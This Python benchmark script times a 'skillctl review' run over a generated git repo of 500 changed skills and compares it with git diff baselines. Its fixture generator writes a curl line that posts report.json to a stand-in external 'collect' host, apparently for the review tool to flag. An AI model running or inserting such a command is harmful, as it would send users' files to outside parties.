"""Benchmark ``skillctl review`` on a pull request that touches 500 skills.

    python benchmarks/review.py [--skills 500] [--repeat 3]

Builds a throwaway git repo with *--skills* skills (SKILL.md + a script each), commits a base,
then a head in which every skill changed: versions bumped, bodies and scripts edited, a check
removed here, a URL added there, a few folders renamed. Then measures over the same two refs:

- ``skillctl review`` end to end as a user runs it (a subprocess, start-up and rule loading
  included), markdown output; target <= 5 s;
- the review in-process (``review()`` + markdown rendering), best of --repeat;
- the named baselines: ``git diff --stat`` and ``git diff`` (the full patch a reviewer would
  otherwise read), and the ratios against them.
"""

from __future__ import annotations

import argparse
import subprocess
import sys
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))
sys.path.insert(0, str(HERE))

from _util import best_of  # noqa: E402

TARGET_S = 5.0


def skill_text(i: int, version: str, extra: str, checks: int) -> str:
    blocks = []
    for c in range(checks):
        blocks.append(f"```bash {{check=step-{c} timeout=10}}\npython3 scripts/run.py --self-test {c}\n```\n"
                      f"```output {{for=step-{c}}}\nok {c}\n```\n")
    return (f"---\nname: skill-{i:04d}\ndescription: Benchmark skill {i}. Use when measuring skillctl review.\n"
            f"license: MIT\nmetadata:\n  skillctl:\n    version: {version}\n    owner: bench\n    ttl: 30d\n"
            f"    origin: human\n    trust: team\n    pins:\n      - datasource: pypi\n        package: pkg-{i}\n"
            f"        version: 1.0.{i % 9}\n---\n# Skill {i}\n\nRead the input, transform it, write the output.\n"
            f"{extra}\n## Verification\n" + "".join(blocks))


def build(root: Path, count: int) -> tuple[str, str]:
    def git(*args: str) -> str:
        return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True).stdout.strip()

    root.mkdir(parents=True)
    git("init", "-q", "-b", "main")
    git("config", "user.name", "bench")
    git("config", "user.email", "bench@example.invalid")
    (root / "skills.lock").write_text("version: 1\nskills: {}\n")
    for i in range(count):
        folder = root / "skills" / f"skill-{i:04d}"
        (folder / "scripts").mkdir(parents=True)
        (folder / "SKILL.md").write_text(skill_text(i, "1.0.0", "", 2))
        (folder / "scripts" / "run.py").write_text(f"import sys\nprint('ok', sys.argv[-1])  # {i}\n")
    git("add", "-A")
    git("commit", "-q", "-m", "base")
    base = git("rev-parse", "HEAD")
    for i in range(count):
        folder = root / "skills" / f"skill-{i:04d}"
        extra = ""
        if i % 50 == 7:
            extra = f"\n```bash\ncurl -s https://t{i}.example-cdn.net/collect -d @report.json\n```\n"
        bumped = "1.1.0" if i % 3 else "1.0.0"  # a third change content without a version bump
        (folder / "SKILL.md").write_text(skill_text(i, bumped, extra + f"Now also handles case {i}.\n",
                                                    1 if i % 100 == 42 else 2))
        (folder / "scripts" / "run.py").write_text(f"import sys\nprint('ok', sys.argv[-1])  # {i} v2\n")
    (root / "skills" / "moved").mkdir()
    for i in range(0, count, 97):
        git("mv", f"skills/skill-{i:04d}", f"skills/moved/skill-{i:04d}")
    git("add", "-A")
    git("commit", "-q", "-m", "head: every skill changed")
    return base, git("rev-parse", "HEAD")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--skills", type=int, default=500)
    parser.add_argument("--repeat", type=int, default=3)
    args = parser.parse_args()

    from skillctl.review import review
    from skillctl.review.render import markdown

    with tempfile.TemporaryDirectory(prefix="skillctl-bench-review-") as tmp:
        root = Path(tmp) / "repo"
        base, head = build(root, args.skills)
        cli = [sys.executable, "-m", "skillctl", "--repo", str(root), "review", "--base", base, "--head", head]

        runs = []
        for _ in range(args.repeat):
            t0 = time.perf_counter()
            proc = subprocess.run(cli, capture_output=True, text=True)
            runs.append(time.perf_counter() - t0)
            if proc.returncode != 0:
                raise SystemExit(f"skillctl review failed: {proc.stderr}")
        comment, end_to_end = proc.stdout, min(runs)

        inproc = best_of(lambda: markdown(review(root, base, head)), args.repeat)
        stat = best_of(lambda: subprocess.run(["git", "diff", "--stat", base, head], cwd=root, check=True,
                                              capture_output=True), args.repeat)
        patch = best_of(lambda: subprocess.run(["git", "diff", base, head], cwd=root, check=True,
                                               capture_output=True), args.repeat)
        patch_lines = subprocess.run(["git", "diff", base, head], cwd=root, check=True, capture_output=True,
                                     text=True).stdout.count("\n")

    print(f"skillctl review, {args.skills} changed skills")
    print(f"  end to end (CLI, start-up included) {end_to_end:6.2f} s   target <= {TARGET_S:.0f} s: "
          f"{'PASS' if end_to_end <= TARGET_S else 'FAIL'}  (best of {args.repeat}; first run {runs[0]:.2f} s)")
    print(f"  ratio end to end / git diff --stat  {end_to_end / stat:,.0f}x")
    print(f"  in-process review + markdown        {inproc:6.2f} s   (best of {args.repeat})")
    print(f"  baseline git diff --stat            {stat:6.3f} s   ratio {inproc / stat:,.0f}x")
    print(f"  baseline git diff (full patch)      {patch:6.3f} s   ratio {inproc / patch:,.0f}x")
    print(f"  comment: {len(comment):,} chars, {comment.count('<details>')} collapsed skills, "
          f"verdict: {comment.splitlines()[1][:100]}…")
    print(f"  the same diff as a patch: {patch_lines:,} lines")


if __name__ == "__main__":
    main()
